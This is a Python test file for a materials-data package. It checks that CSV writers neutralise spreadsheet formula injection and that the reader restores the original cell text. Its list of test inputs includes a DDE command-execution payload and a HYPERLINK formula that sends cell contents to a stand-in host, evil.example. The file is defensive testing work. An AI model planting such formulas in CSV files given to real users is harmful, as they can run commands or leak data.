"""Formulas of spreadsheets in CSV: written as text, and read back letter by letter."""

import csv
import io
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from matgen_core.data.registry import Source
from matgen_core.data.store import read_table, write_table
from matgen_core.jobs.files.csv_cells import csv_text, restored, write_csv
from matgen_core.jobs.files.tables import CSVFile

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "-Li",
    "-1e",
    "--1",
    "+",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "'=1+1",
    "''=1+1",
    "-1;=2",
    "-0x10",
    "-1 000",
    "−1",  # noqa: RUF001 a minus that is no hyphen
)
HARMLESS = (
    "-1",
    "-1.5e-3",
    "+2",
    "-.5",
    "-inf",
    "-nan",
    "1-2",
    "Li-Sn-S-Cl",
    "NaCl",
    "",
    "'",
    "'a",
    " =1",
    "-",
    "=",
    "5'",
)
DANGEROUS = [text for text in FORMULAS if text not in ("+", "−1")]  # noqa: RUF001
READ = {"keep_default_na": False, "dtype": str}


def cells(text: str) -> list[str]:
    """What a spreadsheet finds in the first column below its head."""
    return [row[0] for row in list(csv.reader(io.StringIO(text, newline="")))[1:] if row]


def test_a_formula_is_written_as_text_and_a_number_as_a_number() -> None:
    written = cells(csv_text(pd.DataFrame({"x": list(FORMULAS), "n": 0})))
    assert written == [f"'{text}" if text in DANGEROUS else text for text in FORMULAS]
    assert cells(csv_text(pd.DataFrame({"x": list(HARMLESS), "n": 0}))) == list(HARMLESS)
    assert cells(csv_text(pd.DataFrame({"x": ["a\r=1+1"], "n": 0}))) == ["a\r=1+1"]  # not a row of its own
    numbers = pd.DataFrame({"x": [-1.5, float("nan"), -2e-9], "mixed": [-1, "=1", None]})
    assert csv_text(numbers) == "x,mixed\n-1.5,-1\n,'=1\n-2e-09,\n"


def test_names_of_columns_are_cells_too() -> None:
    table = pd.DataFrame({"=1+1": ["a"], "-2": ["b"]})
    assert csv_text(table).startswith("'=1+1,-2\n")
    assert list(restored(pd.read_csv(io.StringIO(csv_text(table)), **READ))) == ["=1+1", "-2"]


def test_every_writer_defuses_and_our_reader_reads_the_same(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {"id": [*FORMULAS, *HARMLESS], "kind": pd.Categorical(["=a"] * (len(FORMULAS) + len(HARMLESS)))}
    )
    write_csv(table, tmp_path / "written.csv")
    grown = CSVFile(tmp_path / "grown.csv")
    grown.write(table)
    write_table(table, tmp_path / "data.csv", Source("a", "a.csv", "", "element", None, {}, "", "", "", "", None))
    for name in ("written.csv", "grown.csv", "data.csv"):
        with (tmp_path / name).open(newline="") as file:
            written = cells(file.read())
        assert written == [f"'{text}" if text in DANGEROUS else text for text in table["id"]], name
        again = restored(pd.read_csv(tmp_path / name, **READ))
        assert list(again["id"]) == list(table["id"]), name
        assert set(again["kind"]) == {"=a"}, name
    read = read_table(tmp_path / "data.csv")
    assert list(read["id"].fillna("")) == list(table["id"])


@given(st.lists(st.text(alphabet="'=+-@\t1eLi.,\"; ", max_size=6), min_size=1, max_size=20))
def test_any_text_comes_back(texts: list[str]) -> None:
    table = pd.DataFrame({"x": texts, "n": "1"})
    again = restored(pd.read_csv(io.StringIO(csv_text(table)), **READ))
    assert list(again["x"]) == texts
    for cell in cells(csv_text(table)):
        if cell[:1] in tuple("=@\t") and len(cell) > 1:
            raise AssertionError(f"{cell!r} is a formula for a spreadsheet")
